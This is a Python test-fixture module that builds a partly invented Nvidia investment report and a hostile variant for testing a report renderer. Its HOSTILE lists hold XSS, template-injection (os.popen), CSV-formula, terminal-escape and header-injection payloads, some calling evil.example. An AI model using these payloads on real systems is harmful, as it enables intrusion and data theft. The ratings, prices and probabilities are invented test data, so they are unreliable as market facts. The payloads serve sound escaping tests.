"""A realistic report for the evening of 2025-08-22.

TEST DATA: releases, events and dates follow public record; ratings, contributions, prices before
the last day, probabilities and past calls are invented for the tests of the renderer.
"""

from __future__ import annotations

import math
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

from engine.decision.scenarios import StressRow
from engine.news.sentinel import Flood
from engine.phrases import phrase
from engine.shown import (
    FeedState,
    Outcomes,
    PricePoint,
    RegisteredRule,
    ReleaseCard,
    Report,
    ScoredChance,
    SourceHealth,
    TrackedCall,
    Upcoming,
    WorstDay,
)
from engine.values import (
    Contribution,
    Decision,
    Event,
    Evidence,
    Flip,
    Interval,
    ModelRelease,
    Observed,
    RateExpectation,
    RateOutcome,
    RiskView,
    Stage,
    StatedChance,
    ThreatRating,
)

AS_OF = datetime(2025, 8, 23, 3, 59, 59, 999999, tzinfo=UTC)


def utc(month: int, day: int, hour: int = 12, minute: int = 0) -> datetime:
    return datetime(2025, month, day, hour, minute, tzinfo=UTC)


def contributions() -> tuple[Contribution, ...]:
    rows: list[tuple[str, float, float | None, tuple[Evidence, ...]]] = [
        (
            "fp8_threat",
            0.30,
            -0.42,
            (
                Evidence(
                    text=phrase(
                        "Releases put {risk:pct1} of Nvidia's data-centre revenue at risk after "
                        "fading, of which {chips:pct1} stem from news on home-grown chips",
                        risk=5.4,
                        chips=1.2,
                    ),
                    confidence=0.6,
                ),
            ),
        ),
        (
            "rate_path",
            0.20,
            0.55,
            (
                Evidence(
                    text=phrase(
                        "Markets expect the policy rate to move by {path:bps}; recent Fed "
                        "surprises still count for {effect:pct1} of the share price",
                        path=-54,
                        effect=1.1,
                    ),
                    confidence=0.8,
                ),
            ),
        ),
        (
            "export_policy",
            0.20,
            -0.18,
            (
                Evidence(
                    text=phrase(
                        "Gates for sales to China: US permission {us:share0} open, Chinese "
                        "acceptance {cn:share0} open",
                        us=0.6,
                        cn=0.35,
                    ),
                    confidence=0.4,
                ),
            ),
        ),
        (
            "trend",
            0.20,
            0.48,
            (
                Evidence(
                    text=phrase(
                        "NVDA stands {gap:pct1} against its 200-session mean, at {vol:pct0} "
                        "volatility",
                        gap=26.3,
                        vol=31.0,
                    ),
                    confidence=0.9,
                ),
            ),
        ),
        (
            "valuation_cap",
            0.10,
            -0.25,
            (
                Evidence(
                    text=phrase(
                        "Market value {cap:usdtn2} against a ceiling of {ceiling:usdtn2}",
                        cap=4.331,
                        ceiling=5.0,
                    ),
                    confidence=0.7,
                ),
            ),
        ),
        (
            "earnings_surprise",
            0.0,
            None,
            (
                Evidence(
                    text="The consensus table could not be read",
                    observed=Observed.NOT_OBSERVED,
                ),
            ),
        ),
    ]
    return tuple(
        Contribution(
            name=name,
            weight=weight,
            value=value,
            contribution=weight * value if value is not None else 0.0,
            evidence=evidence,
            doubt=0.2,
        )
        for name, weight, value, evidence in rows
    )


def decision(**changes: Any) -> Decision:
    parts = contributions()
    score = sum(c.contribution for c in parts)
    base = Decision(
        decided_at=utc(8, 25, 12, 30),
        acts_on=date(2025, 8, 25),
        verdict="HOLD",
        stance="HOLD",
        known=True,
        target_weight=1.0,
        floor_weight=0.25,
        score=score,
        silent_weight=0.09,
        margin=score + 0.15,
        chance_beyond=0.11,
        coverage=0.91,
        contributions=parts,
        flips=(
            Flip(
                input="revenue_at_risk_pct",
                strategy="fp8_threat",
                current=5.4,
                flips_at=14.8,
                unit="%",
            ),
            Flip(
                input="expected_path_bps", strategy="rate_path", current=-54, flips_at=41, unit="bp"
            ),
            Flip(input="trend_gap_pct", strategy="trend", current=26.3, flips_at=-19.5, unit="%"),
            Flip(
                input="market_cap_usd_tn",
                strategy="valuation_cap",
                current=4.33,
                flips_at=None,
                unit="USD tn",
            ),
        ),
        since_on=date(2025, 5, 13),
        changed=False,
        previous_score=score - 0.034,
        exit_below=-0.15,
        enter_above=0.0,
        reduce_below=-0.08,
        sell_chance=0.6,
        firm_share=0.874,
        worth_pct=0.0,
        chances=(
            StatedChance(
                event="stands",
                within_sessions=5,
                chance=0.64,
                base=0.81,
                weight=0.5,
                scored=900,
            ),
            StatedChance(
                event="fall",
                within_sessions=21,
                chance=0.23,
                base=0.29,
                weight=0.8,
                scored=890,
                fall_pct=10.0,
            ),
        ),
        risk=RiskView(
            within_sessions=21,
            volatility_pct=39.0,
            low_pct=-17.2,
            high_pct=22.4,
            shortfall_pct=-22.9,
            up_pct=8.1,
            down_pct=-6.3,
            last_close_usd=177.99,
            bear_fall_pct=20.0,
            with_chance_pct=10.0,
            bear_within_sessions=21,
            allowed_share=1.0,
            held_share=1.0,
        ),
        strategy_file="balanced.toml",
        config_hash="6f1c0b1f5f0d4d6f8e3a2b7c9d1e4f60718293a4b5c6d7e8f9a0b1c2d3e4f506",
        data_hash="b7a1e5c29d3f48607182a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8",
        code_version="0.1.0",
    )
    return replace(base, **changes)


def v31() -> ModelRelease:
    return ModelRelease(
        model="DeepSeek-V3.1",
        lab="DeepSeek",
        country="CN",
        released_on=date(2025, 8, 21),
        known_at=utc(8, 21, 8, 30),
        total_params_b=671,
        active_params_b=37,
        training_tokens_t=15.64,
        context_k=128,
        weight_precision="FP8 E4M3",
        scale_format="UE8M0",
        open_weights=True,
        license="MIT",
        price_input_usd_per_mtok=0.27,
        price_output_usd_per_mtok=1.10,
        mmlu_pro_pct=84.8,
        gpqa_diamond_pct=80.1,
        swe_bench_verified_pct=66.0,
        aime_pct=88.4,
        aime_year=2025,
        source="model card",
        confidence=0.9,
    )


def rating(**changes: Any) -> ThreatRating:
    channels = {
        "substitution": 9.75,
        "efficiency": -2.5,
        "price_pressure": 4.25,
        "openness": 6.5,
        "residual": 0.0,
    }
    base = ThreatRating(
        model="DeepSeek-V3.1",
        rated_at=AS_OF,
        score=18.0,
        score_low=6.0,
        score_high=41.0,
        loss_share=0.021,
        impulse_share=0.021,
        net_mean_share=-0.012,
        net_low_share=-0.083,
        net_high_share=0.047,
        p_loss_over_5pct=0.13,
        revenue_usd_bn=155.0,
        value_loss_usd_bn=5.8,
        value_low_usd_bn=1.2,
        value_high_usd_bn=14.0,
        value_share=0.018,
        base_value_usd_bn=322.0,
        channels=channels,
        channel_usd_bn={
            "substitution": -1.6,
            "efficiency": 1.0,
            "price_pressure": -0.4,
            "openness": -0.9,
            "residual": 0.0,
        },
        novelty=0.22,
        reasons="Repeats what R1 proved, at a lower price; its scale format fits chips that do "
        "not exist in volume yet.",
        evidence=(
            Evidence(text="UE8M0 is native on Blackwell too: alone it is weak evidence"),
            Evidence(text="Training hardware", observed=Observed.NOT_OBSERVED),
        ),
        closest_earlier="DeepSeek-R1-0528",
        confidence=0.55,
    )
    return replace(base, **changes)


def card() -> ReleaseCard:
    return ReleaseCard(
        release=v31(),
        rating=rating(),
        usd_per_mtok_nvidia=Interval(low=0.21, mid=0.34, high=0.58),
        nvidia_chip="H20",
        usd_per_mtok_domestic=Interval(low=0.29, mid=0.51, high=1.02),
        domestic_chip="Ascend 910C",
        claims=(
            Evidence(
                text="DeepSeek says the scale format is meant for home-grown chips about to "
                "come out; vendor not named",
                confidence=0.3,
                source="DeepSeek remark, 2025-08-21",
            ),
        ),
    )


def events() -> tuple[Event, ...]:
    rows = [
        (
            "rates",
            "Federal Reserve",
            1,
            Stage.ANNOUNCED,
            0.97,
            utc(8, 22, 14, 0),
            "Powell opens the door to a September cut at Jackson Hole",
            5,
            "https://www.federalreserve.gov/newsevents/speech/powell20250822a.htm",
        ),
        (
            "china_purchase_ban",
            "Nvidia",
            -1,
            Stage.ANNOUNCED,
            0.88,
            utc(8, 22, 3, 10),
            "Nvidia asks suppliers to halt work on the H20",
            3,
            "https://example.org/h20-halt",
        ),
        (
            "model_release",
            "DeepSeek",
            -1,
            Stage.EFFECTIVE,
            0.96,
            utc(8, 21, 8, 30),
            "DeepSeek launches V3.1 with a scale format for coming domestic chips",
            4,
            "https://example.org/deepseek-v31",
        ),
        (
            "training_failure",
            "DeepSeek",
            1,
            Stage.RUMOUR,
            0.81,
            utc(8, 14, 4, 0),
            "R2 is late after training on Ascend failed, report says",
            2,
            "",
        ),
        (
            "export_relief",
            "BIS",
            1,
            Stage.EFFECTIVE,
            0.90,
            utc(8, 11, 12, 0),
            "H20 licences start, with 15 percent of China revenue due to the US",
            6,
            "https://example.org/h20-licences",
        ),
    ]
    return tuple(
        Event(
            event_id=f"e{i}",
            event_type=kind,
            actor=actor,
            direction=direction,  # type: ignore[arg-type]
            stage=stage,
            confidence=confidence,
            occurred_at=at,
            known_at=at + timedelta(minutes=20),
            headline=headline,
            source="wire",
            n_sources=n,
            url=url,
        )
        for i, (kind, actor, direction, stage, confidence, at, headline, n, url) in enumerate(rows)
    )


def rates() -> tuple[RateExpectation, ...]:
    return (
        RateExpectation(
            meeting_on=date(2025, 9, 17),
            outcomes=(
                RateOutcome(change_bps=-25, range_bps=(400, 425), probability=0.851),
                RateOutcome(change_bps=0, range_bps=(425, 450), probability=0.149),
            ),
            rung="zq",
            expected_change_bps=-21.3,
        ),
        RateExpectation(
            meeting_on=date(2025, 10, 29),
            outcomes=(
                RateOutcome(change_bps=-50, range_bps=(375, 400), probability=0.42),
                RateOutcome(change_bps=-25, range_bps=(400, 425), probability=0.50),
                RateOutcome(change_bps=0, range_bps=(425, 450), probability=0.08),
            ),
            rung="zq_neighbour",
            expected_change_bps=-33.5,
        ),
        RateExpectation(
            meeting_on=None,
            outcomes=(),
            rung="two_year_minus_effr",
            expected_change_bps=-65.0,
            note="Average over two years, with a term premium",
        ),
    )


def sessions(first: date, last: date) -> list[date]:
    days = [first + timedelta(days=i) for i in range((last - first).days + 1)]
    return [d for d in days if d.weekday() < 5]


def prices() -> tuple[PricePoint, ...]:
    """A smooth invented path with the true last close; SELL in April and May."""
    days = sessions(date(2025, 2, 24), date(2025, 8, 22))
    n = len(days) - 1

    def close(i: int) -> float:
        base = 128 - 30 * math.exp(-(((i - 30) / 11) ** 2)) + 50 * max(0.0, (i - 45) / (n - 45))
        return base + 3.2 * math.sin(i * 0.9) + 1.9 * math.sin(i * 2.3 + 1)

    shift = 177.99 - close(n)
    return tuple(
        PricePoint(
            session_on=day,
            close=round(close(i) + shift, 2),
            target_weight=0.0 if date(2025, 4, 16) <= day < date(2025, 5, 13) else 1.0,
        )
        for i, day in enumerate(days)
    )


def health() -> tuple[SourceHealth, ...]:
    ok = FeedState.OK
    rows = [
        ("fed_futures", ok, utc(8, 23, 3), utc(8, 22, 21), 1204, 1, ""),
        ("official_rates", ok, utc(8, 23, 3), utc(8, 22, 20), 4310, 1, ""),
        ("yahoo", ok, utc(8, 23, 3), utc(8, 22, 20), 9120, 1, ""),
        ("edgar", ok, utc(8, 23, 3), utc(8, 20, 14), 88, 1, ""),
        ("federal_register", FeedState.BLOCKED, utc(8, 21, 3), utc(8, 20), 41, 1, "HTTP 403"),
        ("hugging_face", ok, utc(8, 23, 3), utc(8, 21, 8), 310, 1, ""),
        ("press_rss", FeedState.STALE, utc(8, 22, 3), utc(8, 19), 1877, 2, "no new item in 3 days"),
        ("consensus", FeedState.NEVER, None, None, 0, 2, ""),
    ]
    return tuple(
        SourceHealth(
            name=name,
            state=state,
            last_ok_at=last,
            newest_at=newest,
            n_facts=n,
            tier=tier,
            note=note,
        )
        for name, state, last, newest, n, tier, note in rows
    )


def track_record() -> tuple[TrackedCall, ...]:
    rows: list[tuple[date, str, float, date | None, float | None]] = [
        (date(2024, 11, 4), "HOLD", 0.21, date(2025, 1, 28), 4.6),
        (date(2025, 1, 28), "SELL", -0.22, date(2025, 2, 18), 8.1),
        (date(2025, 2, 18), "HOLD", 0.04, date(2025, 4, 16), -24.9),
        (date(2025, 4, 16), "SELL", -0.31, date(2025, 5, 13), 24.3),
        (date(2025, 5, 13), "HOLD", 0.12, None, None),
    ]
    return tuple(
        TrackedCall(acts_on=a, verdict=v, score=s, until_on=u, nvda_return_pct=r)  # type: ignore[arg-type]
        for a, v, s, u, r in rows
    )


def sample_report(**changes: Any) -> Report:
    """The report; keyword arguments replace its fields."""
    base = Report(
        as_of=AS_OF,
        decision=decision(),
        releases=(card(),),
        rates=rates(),
        events=events(),
        data_health=health(),
        market={
            "nvda_close_usd": 177.99,
            "change_1d_pct": 1.72,
            "change_5d_pct": -1.36,
            "change_ytd_pct": 32.5,
            "drawdown_pct": -2.8,
            "realised_volatility_pct": 27.4,
            "market_cap_usd_tn": 4.331,
            "implied_growth_pct": 14.2,
            "delivered_growth_pct": 69.2,
        },
        prices=prices(),
        upcoming=(
            Upcoming(
                on=date(2025, 8, 27),
                what=phrase("Nvidia reports the quarter after the close"),
                kind="earnings",
            ),
            Upcoming(on=date(2025, 9, 17), what="FOMC", kind="fomc"),
            Upcoming(on=date(2025, 9, 11), what="CPI, August", kind="cpi"),
        ),
        track_record=track_record(),
        receipt={"ledger_head": "c0ffee54d7a1", "seed": "20250822"},
        parts={
            "stress": stress_rows(),
            "changes": rating_changes(),
            "scored_chances": Outcomes(chances=scored_chances(), worst=worst_days()),
            "registered": registered_rules(),
            "floods": (Flood(source="Google News", told=60, usual_a_day=2.5),),
        },
    )
    return replace(base, **changes)


def rating_changes() -> tuple[ThreatRating, ...]:
    """A price cut, and a failed run that is good for Nvidia."""
    cut = rating(kind="price cut", rated_at=AS_OF - timedelta(days=2), loss_share=0.004,
                 reasons="The list price falls to a quarter.")  # fmt: skip
    return cut, replace(
        cut, kind="failed run", model="R2", loss_share=-0.003, value_loss_usd_bn=-0.7,
        rated_at=AS_OF - timedelta(days=8), reasons="DeepSeek is said to have failed.",
    )  # fmt: skip


def scored_chances() -> tuple[ScoredChance, ...]:
    """A live chance with too few outcomes, and a replayed one that beat its base rate."""
    replayed = ScoredChance(
        record="replayed", event="fall", fall_pct=10.0, within_sessions=21, n=919, open=21, void=2,
        said=0.24, came=0.26, brier=0.181, brier_base_rate=0.189,
        reliability=((0.07, 0.05, 200), (0.25, 0.31, 600), (0.44, 0.4, 119)),
    )  # fmt: skip
    few = replace(
        replayed, record="live", event="stands", fall_pct=None, within_sessions=5, n=7, said=None,
        came=None, brier=None, brier_base_rate=None, reliability=(),
    )  # fmt: skip
    return few, replayed


def worst_days() -> tuple[WorstDay, ...]:
    """Two bad mornings, one of them in the stock."""
    first = WorstDay(
        session_on=date(2025, 1, 27), return_pct=-17.0, decision="HOLD", target_weight=1.0,
        score=0.11, chance_of_fall=0.31,
    )  # fmt: skip
    return first, replace(first, session_on=date(2025, 4, 3), return_pct=-7.8, decision="SELL",
                          target_weight=0.25)  # fmt: skip


def registered_rules() -> tuple[RegisteredRule, ...]:
    """One that its own rule ended, held back, and a forward one that has not begun."""
    ended = RegisteredRule(
        held_back=True, registered_on=date(2025, 8, 1), first_on=date(2025, 1, 2),
        until_on=date(2025, 8, 20), state="withdrawn", sessions=158, looks=2,
        next_look=252, ended_on=date(2025, 7, 7),
        total_pct=4.2, mix_total_pct=11.0, fall_pct=-31.0, holding_fall_pct=-30.2,
        met=("growth below its constant mix", "fell deeper than holding"),
    )  # fmt: skip
    ahead = replace(
        ended, held_back=False, first_on=date(2025, 9, 2), until_on=date(2026, 9, 1),
        state="not begun", sessions=0, looks=0, next_look=126, ended_on=None,
        total_pct=None, mix_total_pct=None, fall_pct=None, holding_fall_pct=None, met=(),
    )  # fmt: skip
    return ended, ahead


def stress_rows() -> tuple[StressRow, ...]:
    """Two scenarios, one that leaves the day as it is and one that sells."""
    quiet = StressRow(
        scenario="Nothing happens",
        severity="mild",
        preset="balanced",
        before="HOLD",
        after="HOLD",
        target_before=1.0,
        target_after=1.0,
        score_before=0.02,
        score_after=0.02,
        share_of_known_days=0.0,
        share_reduced=0.0,
        known_days=90,
    )
    loud = replace(
        quiet, scenario="A guide 20 % below consensus", severity="severe", after="SELL",
        target_after=0.25, score_after=-0.48,
    )  # fmt: skip
    return quiet, loud


HOSTILE = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=evil.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=p></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "`<script>alert(1)</script>`",
    "``` \n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "\n\n<script>alert(1)</script>\n\n",
    "<!-- --><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "{x.__class__}",
    "{0}",
    "{x:usd2}",
    "%(name)s %s %n",
    "[bold red]markup[/]",
    "[link=javascript:alert(1)]x[/link]",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07title",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31mC1",
    "\x08\x08\x08back",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "zero\u200bwidth\u200djoin\ufeff",
    "\U000e0041tag\U000e007f",
    "Subject: x\r\nBcc: evil@example.org\r\n\r\nbody",
    "x\u2028y\u2029z\x85w",
    "\x00null\x00",
    "=cmd|'/c calc'!A1",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "expression(alert(1)); background:url(javascript:alert(1))",
    "\ud800lone",
)

HOSTILE_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://user:pw@evil.example/",
    'https://example.org/" onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/x)](javascript:alert(1)",
    "https://example.org/\r\nSet-Cookie: x",
    "https://[broken",
    "http:///nohost",
)


def hostile_report(payload: str, url: str) -> Report:
    """The sample with every outside text replaced by ``payload`` and every link by ``url``."""
    base = sample_report()
    dirty = Evidence(text=payload, source=payload)
    told = Evidence(text=phrase("By {who}", who=payload), source=payload)
    parts = tuple(
        replace(c, evidence=(dirty, told), name=payload if i == 0 else c.name)
        for i, c in enumerate(base.decision.contributions)
    )
    release = replace(
        v31(),
        model=payload,
        lab=payload,
        weight_precision=payload,
        scale_format=payload,
        hardware_named=payload,
        license=payload,
        setback=payload,
    )
    rated = replace(
        rating(), model=payload, reasons=payload, evidence=(dirty,), closest_earlier=payload
    )
    flips = (Flip(input=payload, strategy=payload, current=1.0, flips_at=2.0, unit=payload),)
    return replace(
        base,
        decision=replace(
            base.decision, contributions=parts, flips=flips, notes=(payload,), strategy_file=payload
        ),
        releases=(
            replace(
                card(),
                release=release,
                rating=rated,
                claims=(dirty,),
                nvidia_chip=payload,
                domestic_chip=payload,
            ),
        ),
        rates=tuple(replace(r, note=payload, rung=payload) for r in base.rates),
        events=tuple(
            replace(e, headline=payload, actor=payload, source=payload, url=url, event_type=payload)
            for e in base.events
        ),
        data_health=tuple(replace(h, note=payload, name=payload) for h in base.data_health),
        upcoming=tuple(replace(u, what=payload, kind=payload) for u in base.upcoming),
        notices=(payload,),
        market={**base.market, payload: 1.0},
        receipt={payload: payload},
        stale=True,
        parts={**base.parts, "changes": (rated, replace(rated, kind=payload))},
    )
